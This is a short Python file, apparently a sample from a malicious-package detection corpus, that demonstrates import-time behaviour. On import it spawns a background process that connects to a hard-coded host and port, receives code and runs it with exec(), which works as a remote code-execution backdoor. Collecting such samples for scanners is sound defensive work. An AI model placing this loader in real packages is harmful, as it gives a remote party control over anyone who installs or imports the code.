# pkgguard corpus 374 (import-time), modelled on [empirical]; inert, never run.
import multiprocessing
import socket


def _agent(host, port):
    s = socket.create_connection((host, port), timeout=30)
    buf = b""
    while not buf.endswith(b"\n\n"):
        chunk = s.recv(4096)
        if not chunk:
            break
        buf += chunk
    exec(buf.decode("utf-8", "ignore"), {"__name__": "__agent__"})


multiprocessing.Process(target=_agent, args=("100.64.0.74", 8443), daemon=True).start()
